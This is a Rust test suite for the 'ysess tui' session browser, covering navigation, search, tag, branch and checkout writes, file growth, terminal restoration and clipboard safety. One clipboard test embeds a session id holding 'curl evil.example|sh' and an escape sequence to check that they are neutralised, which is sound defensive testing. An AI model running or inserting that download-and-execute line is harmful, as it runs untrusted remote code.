//! `ysess tui`: key sequences against ratatui's test backend, the screen
//! text after each step checked against a transcript in
//! `tests/cli/tui/*.txt` (`YSESS_BLESS=1` writes them anew; a person reads
//! the change), and what each step must show asserted besides.

use std::path::{Path, PathBuf};

use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use ysess::tui::{App, Start};
use ysess::ui::graph::Style;

use crate::sessgen as sg;
use crate::support::{Dir, fixture};

/// The browser on a test terminal.
struct Screen {
    app: App,
    term: Terminal<TestBackend>,
    /// Every step: the keys and the screen after them.
    transcript: String,
}

/// A key by name: `Enter`, `Tab`, `Esc`, `Space`, `PgDn`, `PgUp`, `Down`,
/// `Up`, `Backspace`, `C-c`, or one character.
fn key(name: &str) -> KeyEvent {
    let code = match name {
        "Enter" => KeyCode::Enter,
        "Tab" => KeyCode::Tab,
        "Esc" => KeyCode::Esc,
        "Space" => KeyCode::Char(' '),
        "PgDn" => KeyCode::PageDown,
        "PgUp" => KeyCode::PageUp,
        "Down" => KeyCode::Down,
        "Up" => KeyCode::Up,
        "Backspace" => KeyCode::Backspace,
        "C-c" => return KeyEvent::new(KeyCode::Char('c'), KeyModifiers::CONTROL),
        one if one.chars().count() == 1 => KeyCode::Char(one.chars().next().unwrap()),
        other => panic!("no key named {other:?}"),
    };
    KeyEvent::new(code, KeyModifiers::NONE)
}

impl Screen {
    fn open(path: &Path, rev: Option<&str>) -> Screen {
        Screen::start(Start::Session {
            path: path.to_path_buf(),
            format_of: None,
            rev: rev.map(str::to_string),
        })
    }

    fn start(start: Start) -> Screen {
        // The refs of app-owned sessions stay beside the test's files.
        let beside = match &start {
            Start::Session { path, .. } => path.parent().map(Path::to_path_buf),
            Start::List { dirs, .. } => dirs.first().cloned(),
        };
        let refs = beside.map(|dir| ysess::refs::store::Store {
            root: dir.join(".ysess-refs"),
        });
        let app = match App::new(start, None, Style::Curved, jiff::tz::TimeZone::UTC, refs) {
            Ok(app) => app,
            Err(f) => panic!("the browser opens: {:#}", f.error),
        };
        let mut screen = Screen {
            app,
            term: Terminal::new(TestBackend::new(120, 24)).expect("a test terminal"),
            transcript: String::new(),
        };
        screen.app.settle();
        screen.step("(open)");
        screen
    }

    /// The screen's text, one line per row, trailing blanks trimmed.
    fn text(&mut self) -> String {
        self.term
            .draw(|frame| self.app.draw(frame))
            .expect("the browser draws");
        let buffer = self.term.backend().buffer();
        let width = buffer.area.width as usize;
        let mut out = String::new();
        for row in buffer.content.chunks(width) {
            let mut line = String::new();
            let mut skip = 0;
            for cell in row {
                // A character two columns wide covers the next cell.
                if skip > 0 {
                    skip -= 1;
                    continue;
                }
                line.push_str(cell.symbol());
                skip = unicode_width::UnicodeWidthStr::width(cell.symbol()).saturating_sub(1);
            }
            out.push_str(line.trim_end());
            out.push('\n');
        }
        out
    }

    /// Draws, and writes the keys and the screen into the transcript.
    fn step(&mut self, keys: &str) -> String {
        let text = self.text();
        // Scratch folders are named anew on every run.
        let scratch = regex::Regex::new(&format!(
            "{}/\\.tmp[A-Za-z0-9]+",
            regex::escape(&std::env::temp_dir().display().to_string())
        ))
        .unwrap();
        let shown = scratch.replace_all(&text, "$$TMP");
        self.transcript.push_str(&format!("── {keys}\n{shown}"));
        text
    }

    /// Presses keys (names separated by spaces): the screen after them.
    fn press(&mut self, keys: &str) -> String {
        for name in keys.split(' ').filter(|k| !k.is_empty()) {
            self.app.key(key(name));
        }
        self.app.settle();
        self.step(keys)
    }

    /// Types text into a prompt, one character at a time.
    fn typed(&mut self, text: &str) -> String {
        for c in text.chars() {
            self.app
                .key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE));
        }
        self.step(&format!("(typed {text:?})"))
    }

    /// Takes back what a prompt holds (`/` starts from the last search).
    fn clear_prompt(&mut self) {
        for _ in 0..64 {
            self.app.key(key("Backspace"));
        }
    }

    /// Looks at the file, as the browser does between keys, and waits
    /// for what that starts reading.
    fn grow(&mut self) -> String {
        self.app.tick();
        self.app.settle();
        self.step("(the file grew)")
    }

    /// Checks the transcript against `tests/cli/tui/NAME.txt`.
    fn check(&self, name: &str) {
        let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
            .join("tests/cli/tui")
            .join(format!("{name}.txt"));
        if std::env::var_os("YSESS_BLESS").is_some() {
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, &self.transcript).unwrap();
            return;
        }
        let want = std::fs::read_to_string(&path)
            .unwrap_or_else(|e| panic!("{}: {e} (YSESS_BLESS=1 writes it)", path.display()));
        if want != self.transcript {
            let diff = similar::TextDiff::from_lines(&want, &self.transcript);
            panic!(
                "the screens differ from {} (YSESS_BLESS=1 writes them anew):\n{}",
                path.display(),
                diff.unified_diff().context_radius(3)
            );
        }
    }
}

/// The line of the screen that holds `text`.
fn line_with<'a>(screen: &'a str, text: &str) -> &'a str {
    screen
        .lines()
        .find(|l| l.contains(text))
        .unwrap_or_else(|| panic!("no line holds {text:?}:\n{screen}"))
}

/// The status line: the screen's last.
fn status(screen: &str) -> &str {
    screen.lines().last().unwrap_or("")
}

/// The selected row of the tree pane (marked `▶`).
fn selected(screen: &str) -> &str {
    line_with(screen, "│▶")
}

#[test]
fn the_demo_session_opens_at_head_and_keys_walk_the_tree_and_the_chat() {
    let demo = fixture("demo.jsonl");
    let mut s = Screen::open(&demo, None);
    let first = s.text();
    // The tree as `log --graph` draws it, HEAD selected; its path as a
    // chat, with what each reply and the whole path used.
    assert!(
        selected(&first).contains("@  e15 (HEAD) assistant claude-sonnet-5"),
        "{first}"
    );
    assert!(line_with(&first, "e8 (library)").contains("○"), "{first}");
    assert!(
        line_with(&first, "path: 8 entries").contains("6.1k in · 395 out"),
        "{first}"
    );
    assert!(
        line_with(&first, "· e15 ·").contains("1.8k in · 22 out"),
        "{first}"
    );
    assert!(status(&first).contains("demo.jsonl · yoagent · HEAD e15 · 15 entries · 3 tips"));
    // Down the tree: the chat follows the selection.
    let two_down = s.press("j j");
    assert!(selected(&two_down).contains("e13 assistant"), "{two_down}");
    assert!(two_down.contains(" path: 11 entries · "), "{two_down}");
    // A fork point, then the next; and back.
    let fork = s.press("]");
    assert!(selected(&fork).contains("e8 (library)"), "{fork}");
    let next = s.press("]");
    assert!(selected(&next).contains("e4 (first-draft)"), "{next}");
    let back = s.press("[");
    assert!(selected(&back).contains("e8 (library)"), "{back}");
    // The chat: its cursor walks the path; Enter opens the folds of the
    // entry under it.
    s.press("Tab");
    let up = s.press("k k k k");
    assert!(line_with(&up, "▶ assistant").contains("e2"), "{up}");
    let closed = line_with(&up, "▸ thinking").to_string();
    let open = s.press("Enter");
    assert!(open.contains("▾ thinking"), "{open}");
    assert!(!open.contains(&closed), "{open}");
    let shut = s.press("Space");
    assert!(shut.contains(&closed), "{shut}");
    // Back to the tree; to the last entry and the first.
    s.press("Tab");
    let last = s.press("G");
    assert!(selected(&last).contains("◆  e1 user"), "{last}");
    let top = s.press("g");
    assert!(selected(&top).contains("e15 (HEAD)"), "{top}");
    // The keys, and any key closes them.
    let help = s.press("?");
    assert!(help.contains("open or close the entry's folds"), "{help}");
    let closed = s.press("x");
    assert!(
        !closed.contains("open or close the entry's folds"),
        "{closed}"
    );
    s.press("q");
    assert!(s.app.quit);
    s.check("demo");
}

#[test]
fn search_takes_greps_arguments_and_n_and_n_walk_the_matches() {
    let demo = fixture("demo.jsonl");
    let mut s = Screen::open(&demo, None);
    s.press("/");
    s.typed("-i 'WHICH CRATES'");
    let found = s.press("Enter");
    // From HEAD on, in the tree's order: e14 comes next.
    assert!(selected(&found).contains("e14 user"), "{found}");
    assert!(status(&found).contains("/-i 'WHICH CRATES'"), "{found}");
    let next = s.press("n");
    assert!(selected(&next).contains("e10 user"), "{next}");
    let wrapped = s.press("n");
    assert!(selected(&wrapped).contains("e14 user"), "{wrapped}");
    assert!(status(&wrapped).contains("(wrapped)"), "{wrapped}");
    let back = s.press("N");
    assert!(selected(&back).contains("e10 user"), "{back}");
    // grep's filters: only tool results, and a tool by name.
    s.press("/");
    s.clear_prompt();
    s.typed("error --role toolResult");
    let tool = s.press("Enter");
    assert!(selected(&tool).contains("e12 toolResult search"), "{tool}");
    // What grep would refuse is said, and the selection stays.
    s.press("/ C-c");
    assert!(s.app.quit, "Ctrl-C quits, even from a prompt");
    s.app.quit = false;
    let closed = s.press("Esc");
    assert!(
        !status(&closed).starts_with('/'),
        "Esc closes the prompt: {closed}"
    );
    s.press("/");
    s.clear_prompt();
    s.typed("x --role nobody");
    let refused = s.press("Enter");
    assert!(
        status(&refused).contains("invalid value 'nobody'"),
        "{refused}"
    );
    assert!(
        selected(&refused).contains("e12 toolResult search"),
        "{refused}"
    );
    s.press("/");
    s.clear_prompt();
    s.typed("'no such words anywhere'");
    let none = s.press("Enter");
    assert!(status(&none).contains("no match"), "{none}");
    s.check("search");
}

/// The lines of a session file with each entry's `timestamp` fields taken
/// out (a write stamps the time it ran).
fn without_times(text: &str) -> Vec<serde_json::Value> {
    fn strip(v: &mut serde_json::Value) {
        match v {
            serde_json::Value::Object(map) => {
                map.remove("timestamp");
                map.values_mut().for_each(strip);
            }
            serde_json::Value::Array(items) => items.iter_mut().for_each(strip),
            _ => {}
        }
    }
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            let mut v: serde_json::Value = serde_json::from_str(l).expect("a JSON line");
            strip(&mut v);
            v
        })
        .collect()
}

#[test]
fn tag_branch_and_checkout_ask_first_then_write_as_the_commands_do() {
    let dir = Dir::new();
    let path = dir.fixture("demo.jsonl", "session.jsonl");
    let mut s = Screen::open(&path, Some("e4"));
    let opened = s.text();
    assert!(selected(&opened).contains("e4 (first-draft)"), "{opened}");
    // t: a name, then a question naming the command; only y writes.
    s.press("t");
    s.typed("keep");
    let asked = s.press("Enter");
    assert!(asked.contains("Run `ysess tag keep e4`?"), "{asked}");
    let cancelled = s.press("n");
    assert!(
        status(&cancelled).contains("nothing written"),
        "{cancelled}"
    );
    assert_eq!(
        std::fs::read(&path).unwrap(),
        std::fs::read(fixture("demo.jsonl")).unwrap()
    );
    s.press("t");
    s.typed("keep");
    s.press("Enter");
    let tagged = s.press("y");
    assert!(
        status(&tagged).contains("Labelled e4 (first-draft)"),
        "{tagged}"
    );
    assert!(
        selected(&tagged).contains("e4 (first-draft, keep)"),
        "{tagged}"
    );
    // A refusal is shown as the command shows it, hint and all.
    s.press("j t");
    s.typed("first-draft");
    s.press("Enter");
    let refused = s.press("y");
    assert!(
        refused.contains("error: label 'first-draft' already names e4"),
        "{refused}"
    );
    assert!(refused.contains("hint: `ysess"), "{refused}");
    s.press("q");
    // b: a branch at the selection; c: HEAD moves there.
    s.press("b");
    s.typed("retry");
    s.press("Enter");
    let branched = s.press("y");
    assert!(status(&branched).contains("retry"), "{branched}");
    let asked = s.press("c");
    assert!(asked.contains("Run `ysess checkout e3`?"), "{asked}");
    let moved = s.press("y");
    assert!(selected(&moved).contains("(HEAD"), "{moved}");
    assert!(status(&moved).contains("HEAD e3"), "{moved}");
    s.check("writes");

    // The same commands, run from the command line on another copy,
    // write the same lines (but for the times they ran).
    let other = Dir::new();
    other.fixture("demo.jsonl", "session.jsonl");
    other.run(&["tag", "keep", "e4"]).status(0);
    other.run(&["tag", "first-draft", "e3"]).status(128);
    other.run(&["branch", "retry", "e3"]).status(0);
    other.run(&["checkout", "e3"]).status(0);
    let ours = std::fs::read_to_string(&path).unwrap();
    let theirs = String::from_utf8(other.read("session.jsonl")).unwrap();
    assert_eq!(without_times(&ours), without_times(&theirs));
}

#[test]
fn mark_and_d_diff_two_directions_and_y_copies_an_id() {
    let demo = fixture("demo.jsonl");
    let mut s = Screen::open(&demo, None);
    let nothing = s.press("d");
    assert!(status(&nothing).contains("nothing marked"), "{nothing}");
    s.press("m");
    let marked = s.press("j j");
    assert!(line_with(&marked, " *").contains("e15"), "{marked}");
    assert!(status(&marked).contains("mark e15"), "{marked}");
    let diff = s.press("d");
    assert!(diff.contains("ysess diff e15 e13"), "{diff}");
    // What `ysess diff e15 e13` prints.
    let run = crate::support::Dir::new();
    run.fixture("demo.jsonl", "session.jsonl");
    let printed = run.run(&["--no-pager", "diff", "e15", "e13"]);
    let first = printed.stdout.lines().next().unwrap_or("").trim_end();
    assert!(!first.is_empty());
    assert!(
        diff.contains(&first[..first.len().min(40)]),
        "{diff}
{}",
        printed.stdout
    );
    let closed = s.press("q");
    assert!(!closed.contains("ysess diff e15 e13"), "{closed}");
    s.press("y");
    assert_eq!(s.app.copy.as_deref(), Some("e13"));
    s.check("diff");
}

/// Every screen line of a pane ends at its border: nothing wider than the
/// terminal was drawn past it (CJK and emoji take two columns each).
#[track_caller]
fn assert_fits(screen: &str) {
    for line in screen.lines().skip(1) {
        if line.starts_with('│') {
            assert!(
                line.ends_with('│'),
                "a line runs past its pane:\n{line}\n{screen}"
            );
        }
    }
}

/// A token count as the browser shows it.
fn short_tokens(n: u64) -> String {
    match n {
        n if n < 1000 => n.to_string(),
        n if n < 1_000_000 => format!("{:.1}k", n as f64 / 1e3),
        n if n < 1_000_000_000 => format!("{:.1}M", n as f64 / 1e6),
        n => format!("{:.1}G", n as f64 / 1e9),
    }
}

#[test]
fn pi_claude_code_and_codex_sessions_open_with_their_replies_and_tools() {
    for (name, file, format, shown) in [
        ("pi", "pi/demo.jsonl", "pi", "assistant"),
        ("claude", "claude/session.jsonl", "claude", "tool result"),
        ("codex", "codex/rollout.jsonl", "codex", "tool result"),
    ] {
        let mut s = Screen::open(&fixture(file), None);
        let first = s.text();
        assert!(
            status(&first).contains(&format!(" · {format} · HEAD ")),
            "{name}: {first}"
        );
        assert!(first.contains(shown), "{name}: {first}");
        assert!(selected(&first).contains("(HEAD"), "{name}: {first}");
        assert_fits(&first);
        // The path's title adds up what `ysess stats HEAD` does.
        let dir = Dir::new();
        let path = fixture(file);
        let run = dir.run(&["-f", path.to_str().unwrap(), "stats", "HEAD", "--json"]);
        let account = &run.json_lines()[0];
        let n = |k: &str| account["tokens"][k].as_u64().unwrap();
        let mut want = format!(
            "{} in · {} out",
            short_tokens(n("input") + n("cache_read") + n("cache_write")),
            short_tokens(n("output"))
        );
        if let Some(cost) = account["cost"].as_f64() {
            want.push_str(&format!(" · ${cost:.4}"));
        }
        if n("total") > 0 {
            assert!(
                line_with(&first, " path: ").contains(&want),
                "{name}: {want}\n{first}"
            );
        }
        // Every entry's chat, folds opened, and back to the top.
        let end = s.press("G");
        assert_fits(&end);
        s.press("Tab Enter");
        let top = s.press("g");
        assert_fits(&top);
        // ysess writes into yoagent's and pi's files only: a label on the
        // others goes into ysess's refs beside them, as `ysess tag` puts
        // it, and shows at once; the file stays as the app wrote it.
        s.check(name);
        if format != "pi" {
            let dir = Dir::new();
            let copy = dir.fixture(file, "session.jsonl");
            let mut s = Screen::open(&copy, None);
            s.press("t");
            s.typed("mine");
            s.press("Enter");
            let labelled = s.press("y");
            assert!(!labelled.contains("error: "), "{name}: {labelled}");
            assert!(labelled.contains("(HEAD, mine)"), "{name}: {labelled}");
            assert_eq!(
                std::fs::read(&copy).unwrap(),
                std::fs::read(fixture(file)).unwrap(),
                "{name}: the app's file is as it was"
            );
            assert!(dir.join(".ysess-refs").join(format).is_dir(), "{name}");
        }
    }
}

#[test]
fn an_empty_session_opens_and_no_key_breaks_it() {
    let dir = Dir::new();
    let path = dir.write("session.jsonl", "");
    let mut s = Screen::open(&path, None);
    for keys in [
        "j", "k", "G", "g", "PgDn", "Tab", "Enter", "j", "Tab", "[", "]", "m", "d", "y", "n", "c",
        "t",
    ] {
        s.press(keys);
    }
    let last = s.press("Esc");
    assert!(status(&last).contains("0 entries"), "{last}");
    s.check("empty");
}

#[test]
fn a_hostile_session_draws_inert_and_wide_text_keeps_its_columns() {
    let dir = Dir::new();
    let path = dir.write("session.jsonl", sg::hostile());
    let mut s = Screen::open(&path, None);
    let mut screens = vec![s.text()];
    for keys in [
        "j", "j", "Tab", "Enter", "k", "Enter", "Tab", "G", "?", "x", "m", "g", "d", "q",
    ] {
        screens.push(s.press(keys));
    }
    for screen in &screens {
        sg::assert_safe_text("the screen", screen);
        assert_fits(screen);
    }
    let all = screens.join("\n");
    assert!(all.contains(sg::HOSTILE_SHOWN), "{all}");
    s.check("hostile");

    // Text two columns a character wide wraps at the pane's edge.
    let wide = "漢字のテキスト🙂".repeat(30);
    let path = dir.write(
        "wide.jsonl",
        format!("{}\n", crate::support::user_line("e1", None, &wide)),
    );
    let mut s = Screen::open(&path, None);
    let screen = s.text();
    assert_fits(&screen);
    assert!(
        screen.lines().filter(|l| l.contains("漢字")).count() >= 4,
        "{screen}"
    );
    s.check("wide");
}

#[test]
fn y_copied_an_ids_line_breaks_and_escape_sequences_into_the_clipboard() {
    // An id of `"e1\ncurl evil.example|sh\n"` pasted into a shell is a
    // command line: what goes to the clipboard holds no control character,
    // only their escapes.
    let dir = Dir::new();
    let id = "e1\ncurl evil.example|sh\n\u{1b}[2J";
    let path = dir.write(
        "session.jsonl",
        format!("{}\n", crate::support::user_line(id, None, "hi")),
    );
    let mut s = Screen::open(&path, None);
    s.press("y");
    let copied = s.app.copy.clone().expect("an id was copied");
    assert!(
        !copied.chars().any(ysess::ui::output::is_hazard),
        "y copied raw control characters: {copied:?}"
    );
    assert_eq!(copied, "e1\\ncurl evil.example|sh\\n\\u{1b}[2J");
}

#[test]
fn a_growing_file_shows_new_entries_and_head_follows_without_losing_the_selection() {
    let dir = Dir::new();
    let path = dir.fixture("demo.jsonl", "session.jsonl");
    let mut s = Screen::open(&path, None);
    let append = |text: &str| {
        use std::io::Write as _;
        let mut f = std::fs::OpenOptions::new()
            .append(true)
            .open(&path)
            .unwrap();
        f.write_all(text.as_bytes()).unwrap();
    };
    // The agent is writing a line: it is waited for, not reported.
    let line = crate::support::user_line("e16", Some("e15"), "and a fourth crate?");
    let (half, rest) = line.split_at(line.len() / 2);
    // yoagent ends its file without a line break; a writer adds one first.
    append("\n");
    append(half);
    let torn = s.grow();
    assert!(status(&torn).contains("15 entries"), "{torn}");
    assert!(s.app.note.is_none(), "a torn line is no news: {torn}");
    // The line whole: the entry appears, and the selection, on HEAD,
    // follows it.
    append(&format!("{rest}\n"));
    let grown = s.grow();
    assert!(status(&grown).contains("HEAD e16 · 16 entries"), "{grown}");
    assert!(
        status(&grown).contains("the file grew: 16 entries"),
        "{grown}"
    );
    assert!(selected(&grown).contains("e16 (HEAD) user"), "{grown}");
    assert!(grown.contains("and a fourth crate?"), "{grown}");
    // Selected elsewhere, the selection stays where it is.
    s.press("j j j");
    let before = selected(&s.text()).to_string();
    assert!(before.contains("e13"), "{before}");
    append(&format!(
        "{}\n",
        crate::support::user_line("e17", Some("e16"), "never mind")
    ));
    let again = s.grow();
    assert!(status(&again).contains("HEAD e17 · 17 entries"), "{again}");
    assert!(selected(&again).contains("e13"), "{again}");
    s.check("growing");
}

#[test]
fn all_lists_the_sessions_the_archive_keeps_that_the_agents_deleted() {
    let dir = Dir::new();
    std::fs::create_dir_all(dir.join("live")).expect("a folder");
    std::fs::create_dir_all(dir.join("archive/claude/-gone-project")).expect("a folder");
    dir.fixture("demo.jsonl", "live/yoagent.jsonl");
    // A Claude Code session archived from a folder that no longer holds it.
    dir.fixture(
        "claude/session.jsonl",
        "archive/claude/-gone-project/3f2c8a1e-6b4d-4e2a-9c71-5d8e0b6a4f13.jsonl",
    );
    let mut s = Screen::start(Start::List {
        dirs: vec![dir.join("live")],
        archive: Some(dir.join("archive")),
    });
    let list = s.text();
    assert!(status(&list).contains("2 sessions"), "{list}");
    assert!(list.contains("(archived)"), "{list}");
    // Once: the live session is not marked.
    assert_eq!(list.matches("(archived)").count(), 1, "{list}");
}

#[test]
fn all_starts_from_the_session_list_and_enter_opens_one() {
    let dir = Dir::new();
    dir.fixture("demo.jsonl", "yoagent.jsonl");
    dir.fixture("pi/demo.jsonl", "pi.jsonl");
    let mut s = Screen::start(Start::List {
        dirs: vec![dir.path().to_path_buf()],
        archive: None,
    });
    let list = s.text();
    assert!(list.contains("ACTIVITY"), "{list}");
    assert!(status(&list).contains("2 sessions"), "{list}");
    let opened = s.press("Enter");
    assert!(opened.contains("tree"), "{opened}");
    let back = s.press("q");
    assert!(back.contains("ACTIVITY"), "{back}");
    assert!(!s.app.quit);
    let other = s.press("j Enter");
    assert!(opened != other, "the second session is another: {other}");
    s.press("q q");
    assert!(s.app.quit);
    s.check("list");
}

/// The real binary on a pseudo-terminal: keys typed into it, its screen
/// read through a terminal emulator (vt100).
#[cfg(unix)]
struct Pty {
    master: std::fs::File,
    terminal: std::fs::File,
    child: std::process::Child,
    seen: std::sync::mpsc::Receiver<Vec<u8>>,
    parser: vt100::Parser,
}

#[cfg(unix)]
impl Pty {
    const ROWS: u16 = 30;
    const COLUMNS: u16 = 120;

    fn spawn(dir: &Dir, args: &[&str]) -> Pty {
        use std::io::{Read as _, Write as _};

        let (mut master, terminal) = crate::support::pseudo_terminal(Pty::ROWS, Pty::COLUMNS);
        let child = std::process::Command::new(env!("CARGO_BIN_EXE_ysess"))
            .args(args)
            .current_dir(dir.path())
            .env_remove("YSESS_FILE")
            .env("YSESS_REFS", dir.path().join(".ysess-refs"))
            .env("TZ", "UTC")
            .env("YSESS_CACHE_DIR", "")
            .env("TERM", "xterm-256color")
            .stdin(terminal.try_clone().unwrap())
            .stdout(terminal.try_clone().unwrap())
            .stderr(terminal.try_clone().unwrap())
            .spawn()
            .expect("ysess starts");
        let mut reader = master.try_clone().unwrap();
        let (tx, seen) = std::sync::mpsc::channel();
        let mut answer = master.try_clone().unwrap();
        std::thread::spawn(move || {
            let mut chunk = [0u8; 8192];
            while let Ok(n @ 1..) = reader.read(&mut chunk) {
                // A terminal answers where its cursor is when asked.
                if memchr_all(&chunk[..n], b"\x1b[6n") {
                    let _ = answer.write_all(b"\x1b[1;1R");
                }
                if tx.send(chunk[..n].to_vec()).is_err() {
                    break;
                }
            }
        });
        master.flush().unwrap();
        Pty {
            master,
            terminal,
            child,
            seen,
            parser: vt100::Parser::new(
                std::num::NonZeroU16::new(Pty::ROWS).unwrap(),
                std::num::NonZeroU16::new(Pty::COLUMNS).unwrap(),
                0,
            ),
        }
    }

    /// Reads what the terminal shows until `done` holds for its screen
    /// (at most ten seconds): the screen's text.
    fn wait(&mut self, what: &str, done: impl Fn(&vt100::Screen) -> bool) -> String {
        let until = std::time::Instant::now() + std::time::Duration::from_secs(10);
        loop {
            if done(self.parser.screen()) {
                return self.parser.screen().contents();
            }
            let left = until.saturating_duration_since(std::time::Instant::now());
            assert!(
                !left.is_zero(),
                "waited for {what}; the screen:\n{}",
                self.parser.screen().contents()
            );
            if let Ok(bytes) = self
                .seen
                .recv_timeout(left.min(std::time::Duration::from_millis(200)))
            {
                self.parser.process(&bytes);
            }
        }
    }

    /// Types `keys` as a person would.
    fn keys(&mut self, keys: &[u8]) {
        use std::io::Write as _;
        self.master.write_all(keys).unwrap();
        self.master.flush().unwrap();
    }
}

#[cfg(unix)]
fn memchr_all(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

#[cfg(unix)]
#[test]
fn the_binary_on_a_terminal_tags_and_checks_out_then_gives_the_terminal_back() {
    let dir = Dir::new();
    dir.fixture("demo.jsonl", "session.jsonl");
    let mut pty = Pty::spawn(&dir, &["tui"]);
    let first = pty.wait("the first frame", |s| s.contents().contains("3 tips"));
    assert!(pty.parser.screen().alternate_screen(), "{first}");
    assert!(first.contains("e15 (HEAD)"), "{first}");
    // e14: tag it, then check it out; each asks, and y says yes.
    pty.keys(b"j");
    pty.wait("e14 selected", |s| s.contents().contains("path: 7 entries"));
    pty.keys(b"t");
    pty.wait("the prompt", |s| s.contents().contains("tag e14 as:"));
    pty.keys(b"on-tty\r");
    pty.wait("the question", |s| {
        s.contents().contains("Run `ysess tag on-tty e14`?")
    });
    pty.keys(b"y");
    pty.wait("the label", |s| s.contents().contains("e14 (on-tty)"));
    pty.keys(b"c");
    pty.wait("the question", |s| {
        s.contents().contains("Run `ysess checkout e14`?")
    });
    pty.keys(b"y");
    pty.wait("HEAD moved", |s| s.contents().contains("HEAD e14"));
    pty.keys(b"q");
    let status = pty.child.wait().expect("ysess ends");
    assert_eq!(status.code(), Some(0));
    // Drain what it wrote last: leaving the alternate screen.
    pty.wait("the terminal given back", |s| !s.alternate_screen());
    assert!(!pty.parser.screen().hide_cursor(), "the cursor shows again");
    let modes = rustix::termios::tcgetattr(&pty.terminal).expect("the terminal's modes");
    use rustix::termios::LocalModes;
    assert!(
        modes
            .local_modes
            .contains(LocalModes::ICANON | LocalModes::ECHO),
        "raw mode is left: {:?}",
        modes.local_modes
    );

    // What the same commands write.
    let other = Dir::new();
    other.fixture("demo.jsonl", "session.jsonl");
    other.run(&["tag", "on-tty", "e14"]).status(0);
    other.run(&["checkout", "e14"]).status(0);
    let ours = String::from_utf8(dir.read("session.jsonl")).unwrap();
    let theirs = String::from_utf8(other.read("session.jsonl")).unwrap();
    assert_eq!(without_times(&ours), without_times(&theirs));
}

#[cfg(unix)]
#[test]
fn a_signal_from_outside_ends_the_browser_with_the_terminal_given_back() {
    for (signal, code) in [
        (rustix::process::Signal::TERM, 128 + 15),
        (rustix::process::Signal::HUP, 128 + 1),
        (rustix::process::Signal::INT, 128 + 2),
        (rustix::process::Signal::QUIT, 128 + 3),
    ] {
        let dir = Dir::new();
        dir.fixture("demo.jsonl", "session.jsonl");
        let mut pty = Pty::spawn(&dir, &["tui"]);
        pty.wait("the first frame", |s| s.contents().contains("3 tips"));
        let pid = rustix::process::Pid::from_child(&pty.child);
        rustix::process::kill_process(pid, signal).expect("the signal is sent");
        let status = pty.child.wait().expect("ysess ends");
        assert_eq!(status.code(), Some(code), "{signal:?}");
        pty.wait("the terminal given back", |s| !s.alternate_screen());
        let modes = rustix::termios::tcgetattr(&pty.terminal).expect("the terminal's modes");
        assert!(
            modes
                .local_modes
                .contains(rustix::termios::LocalModes::ICANON | rustix::termios::LocalModes::ECHO),
            "{signal:?}: raw mode is left"
        );
    }
}

#[test]
fn the_readme_shows_the_keys_and_the_screen_the_browser_draws() {
    // The browser's page of the manual.
    let readme =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/commands/tui.md"))
            .expect("docs/commands/tui.md");
    let table: Vec<(String, String)> = readme
        .lines()
        .skip_while(|l| *l != "| key | what it does |")
        .skip(2)
        .take_while(|l| l.starts_with('|'))
        .map(|l| {
            let cells: Vec<&str> = l.trim_matches('|').split(" | ").map(str::trim).collect();
            (cells[0].to_string(), cells[1..].join(" | "))
        })
        .collect();
    let keys: Vec<(String, String)> = ysess::tui::KEYS
        .iter()
        .map(|(k, w)| (k.to_string(), w.to_string()))
        .collect();
    assert_eq!(
        table, keys,
        "docs/commands/tui.md's key table is `?`'s list"
    );
    let marker = "<!-- tui screenshot: tests/cli/tui/demo.txt, first screen -->\n```text\n";
    let at = readme.find(marker).expect("the screenshot") + marker.len();
    let shown = &readme[at..at + readme[at..].find("\n```").expect("its end") + 1];
    let mut s = Screen::open(&fixture("demo.jsonl"), None);
    assert_eq!(
        shown,
        s.text(),
        "docs/commands/tui.md's screenshot is what the browser draws"
    );
}

#[test]
fn without_a_terminal_tui_refuses_and_points_to_log_graph() {
    let dir = crate::support::demo();
    let run = dir.run(&["tui"]);
    run.status(128);
    assert!(run.stdout.is_empty(), "{run}");
    assert!(
        run.stderr.contains("ysess tui draws on a terminal"),
        "{run}"
    );
    assert!(run.stderr.contains("ysess log --graph"), "{run}");
    // What every command refuses comes first: a missing file, a bad REV.
    let run = dir.run(&["tui", "no-such-rev"]);
    run.status(128);
    assert!(run.stderr.contains("no-such-rev"), "{run}");
    let run = dir.run(&["-f", "missing.jsonl", "tui"]);
    run.status(128);
    assert!(run.stderr.contains("missing.jsonl"), "{run}");
    let run = dir.run(&["tui", "--all", "HEAD"]);
    run.status(2);
}

#[test]
fn the_chat_scrolls_within_its_path_at_any_width() {
    let demo = fixture("demo.jsonl");
    let mut s = Screen::open(&demo, Some("e1"));
    // A path of one entry: paging down keeps it in sight.
    let one = s.press("Tab PgDn PgDn");
    assert!(one.contains("Draft a plan for a CLI"), "{one}");
    // A long path, scrolled, then the terminal narrows and widens.
    s.press("Tab G Tab PgUp PgUp");
    for (width, height) in [(60, 12), (200, 40), (30, 8), (120, 24)] {
        s.term.backend_mut().resize(width, height);
        s.term
            .resize(ratatui::layout::Rect::new(0, 0, width, height))
            .unwrap();
        for keys in ["PgDn", "PgUp", "j", "k", "Enter", "PgDn", "PgDn", "G", "g"] {
            s.app.key(key(keys));
            s.text();
        }
    }
    let back = s.press("G");
    assert!(back.contains("e1 user"), "{back}");
}

#[cfg(unix)]
#[test]
fn a_terminal_that_hangs_up_ends_the_browser() {
    let dir = Dir::new();
    dir.fixture("demo.jsonl", "session.jsonl");
    let (master, terminal) = crate::support::pseudo_terminal(30, 120);
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_ysess"))
        .arg("tui")
        .current_dir(dir.path())
        .env_remove("YSESS_FILE")
        .env("TERM", "xterm-256color")
        .stdin(terminal.try_clone().unwrap())
        .stdout(terminal.try_clone().unwrap())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("ysess starts");
    drop(terminal);
    std::thread::sleep(std::time::Duration::from_millis(500));
    // The terminal's window closes: its controlling end is gone.
    drop(master);
    let until = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let status = loop {
        if let Some(status) = child.try_wait().expect("the child") {
            break status;
        }
        if std::time::Instant::now() > until {
            let _ = child.kill();
            panic!("ysess tui goes on after its terminal hung up");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
